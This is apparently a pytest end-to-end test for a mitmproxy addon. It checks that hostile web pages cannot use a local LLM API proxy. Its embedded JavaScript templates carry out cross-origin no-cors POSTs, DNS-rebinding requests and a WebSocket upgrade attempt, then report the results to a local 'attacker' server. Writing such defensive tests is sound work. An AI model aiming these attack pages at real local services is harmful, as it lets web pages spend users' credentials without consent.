"""End to end with a real browser: a web page cannot spend the user's proxy.

Headless Chromium (Debian's `chromium`; installed here with apt-get when missing, as root) opens
two hostile pages while a mitmdump with the addon runs as `scripts/run` runs it (reverse mode,
`responses_rewrite=all`, lazy connections) in front of a small upstream that counts what reaches
it:

- a page on another origin (another port of 127.0.0.1) that sends the simple cross-origin POST
  a page can send without a preflight (`content-type: text/plain`, `mode: no-cors`), and a JSON
  one that needs a preflight;
- a DNS-rebinding page: `rebind.test` resolves to 127.0.0.1 (Chromium's host resolver rules),
  so the page is served from the proxy's own origin (passed through to the upstream, as a real
  rebinding attacker's server would have served it first) and calls the proxy same-origin, where
  it could read the answers: a chat POST and a `GET /v1/models`.

Nothing may reach the upstream's /responses, the rebound page must read 403s, and each page
reports what it saw to the attacker's server.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from tests.chromium_helpers import ensure_chromium
from tests.emulator_helpers import stop_process
from tests.proxy_helpers import Mitmdump, run_mitmdump

CHROMIUM_FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
)
MODEL = "gpt-5.5"

ATTACK = """<!doctype html><title>attack</title><script>
const results = {};
async function attempt(name, run) {
  try { const r = await run(); results[name] = {status: r.status, type: r.type}; }
  catch (e) { results[name] = {error: String(e)}; }
}
const chat = (text) => JSON.stringify(
  {model: "%(model)s", stream: false, messages: [{role: "user", content: text}]});
(async () => {
  const target = "%(target)s";
  %(attempts)s
  await fetch("%(report)s", {method: "POST", mode: "no-cors", body: JSON.stringify(
    {page: "%(page)s", results})});
})();
</script>"""

CROSS_ATTEMPTS = """
  await attempt("simple_post", () => fetch(target + "/v1/chat/completions", {method: "POST",
    mode: "no-cors", headers: {"content-type": "text/plain;charset=UTF-8"},
    body: chat("browser-cross-simple")}));
  await attempt("json_post", () => fetch(target + "/v1/chat/completions", {method: "POST",
    headers: {"content-type": "application/json"}, body: chat("browser-cross-json")}));
"""
REBIND_ATTEMPTS = """
  await attempt("chat", () => fetch("/v1/chat/completions", {method: "POST",
    headers: {"content-type": "application/json"}, body: chat("browser-rebind")}));
  await attempt("responses", () => fetch("/v1/responses", {method: "POST",
    headers: {"content-type": "text/plain"},
    body: JSON.stringify({model: "gpt-5.5", input: "browser-rebind-responses"})}));
  await attempt("websocket", () => new Promise((resolve) => {
    const ws = new WebSocket("ws://" + location.host + "/v1/responses");
    ws.onopen = () => resolve({status: 101, type: "open"});
    ws.onclose = (e) => resolve({status: e.code, type: "closed"});
  }));
  await attempt("models", () => fetch("/v1/models"));
"""


@dataclass
class Servers:
    """The upstream (behind the proxy) and the attacker's own server, on one loop."""

    upstream_port: int = 0
    attacker_port: int = 0
    proxy_port: int = 0
    responses: list[str] = field(default_factory=list)  # bodies that reached /v1/responses
    reports: dict[str, Any] = field(default_factory=dict)
    reported: threading.Event = field(default_factory=threading.Event)

    def page(self, name: str, target: str, attempts: str) -> str:
        report = f"http://127.0.0.1:{self.attacker_port}/report"
        values = {"model": MODEL, "target": target, "attempts": attempts, "report": report}
        return ATTACK % {**values, "page": name}


@contextlib.contextmanager
def servers() -> Iterator[Servers]:
    state = Servers()
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()

    async def responses(request: web.Request) -> web.Response:
        state.responses.append(await request.text())
        return web.json_response({"error": {"message": "not here"}}, status=400)

    async def rebind_page(_: web.Request) -> web.Response:
        page = state.page("rebind", "", REBIND_ATTEMPTS)
        return web.Response(text=page, content_type="text/html")

    async def cross_page(_: web.Request) -> web.Response:
        page = state.page("cross", f"http://127.0.0.1:{state.proxy_port}", CROSS_ATTEMPTS)
        return web.Response(text=page, content_type="text/html")

    async def report(request: web.Request) -> web.Response:
        data = json.loads(await request.text())
        state.reports[data["page"]] = data["results"]
        if len(state.reports) == 2:
            state.reported.set()
        return web.Response(text="ok")

    async def start(app: web.Application) -> tuple[web.AppRunner, int]:
        runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.2)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        return runner, runner.addresses[0][1]

    upstream, attacker = web.Application(), web.Application()
    upstream.router.add_post("/v1/responses", responses)
    upstream.router.add_get("/attack.html", rebind_page)
    attacker.router.add_get("/cross.html", cross_page)
    attacker.router.add_post("/report", report)
    runners = []
    for app, name in ((upstream, "upstream_port"), (attacker, "attacker_port")):
        runner, port = asyncio.run_coroutine_threadsafe(start(app), loop).result(10)
        runners.append(runner)
        setattr(state, name, port)
    try:
        yield state
    finally:
        for runner in runners:
            with contextlib.suppress(Exception):
                asyncio.run_coroutine_threadsafe(runner.cleanup(), loop).result(10)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        loop.close()


@contextlib.contextmanager
def chromium(binary: str, url: str, profile: Path, proxy_port: int) -> Iterator[None]:
    args = [
        binary,
        *CHROMIUM_FLAGS,
        f"--user-data-dir={profile}",
        "--host-resolver-rules=MAP rebind.test 127.0.0.1",
        url,
    ]
    process = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        yield
    finally:
        stop_process(process, timeout=5)


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Servers, Mitmdump]]:
    binary = ensure_chromium()
    with servers() as state:
        options = {
            "responses_url": f"http://127.0.0.1:{state.upstream_port}/v1",
            "responses_rewrite": "all",
            "responses_transport": "http",
            "connection_strategy": "lazy",
        }
        confdir = tmp_path_factory.mktemp("mitmproxy-browser")
        with run_mitmdump(
            f"reverse:http://127.0.0.1:{state.upstream_port}", confdir, options
        ) as proxy:
            state.proxy_port = proxy.port
            cross = f"http://127.0.0.1:{state.attacker_port}/cross.html"
            rebind = f"http://rebind.test:{proxy.port}/attack.html"
            with (
                chromium(binary, cross, tmp_path_factory.mktemp("chrome-cross"), proxy.port),
                chromium(binary, rebind, tmp_path_factory.mktemp("chrome-rebind"), proxy.port),
            ):
                assert state.reported.wait(60), f"the pages did not report: {state.reports}"
            time.sleep(0.3)  # anything in flight reaches the upstream now, or never
            yield state, proxy


def test_a_cross_origin_page_reaches_nothing_upstream(attack: tuple[Servers, Mitmdump]) -> None:
    state, proxy = attack
    assert not [body for body in state.responses if "browser-cross" in body]
    # The proxy saw the page's requests and refused them (not the browser's own blocking).
    proxy.wait_for_log("request refused (403): Requests from the web page")
    assert set(state.reports["cross"]) == {"simple_post", "json_post"}


def test_a_rebound_page_reads_403s_and_reaches_nothing_upstream(
    attack: tuple[Servers, Mitmdump],
) -> None:
    state, _ = attack
    results = state.reports["rebind"]
    assert results["chat"] == {"status": 403, "type": "basic"}, results
    assert results["responses"] == {"status": 403, "type": "basic"}, results
    assert results["websocket"]["type"] == "closed", results  # the upgrade was refused
    assert not [body for body in state.responses if "browser-rebind" in body]
    # GET /v1/models (the catalog, no credential in it) carries neither Origin nor Sec-Fetch-*
    # over plain http, and mitmproxy's reverse mode hides the Host from the addon unless
    # keep_host_header is set (tests/e2e/test_safety.py checks that case): it may be answered.
    assert results["models"]["status"] in (200, 403), results


def test_a_tool_that_is_not_a_browser_still_gets_through(
    attack: tuple[Servers, Mitmdump],
) -> None:
    """The control: the same call without a browser's headers reaches the upstream."""
    state, proxy = attack
    import http.client

    body = {"model": MODEL, "messages": [{"role": "user", "content": "control"}]}
    conn = http.client.HTTPConnection("127.0.0.1", proxy.port, timeout=30)
    conn.request("POST", "/v1/chat/completions", json.dumps(body), {"content-type": "text/plain"})
    conn.getresponse().read()
    conn.close()
    assert [b for b in state.responses if "control" in b]
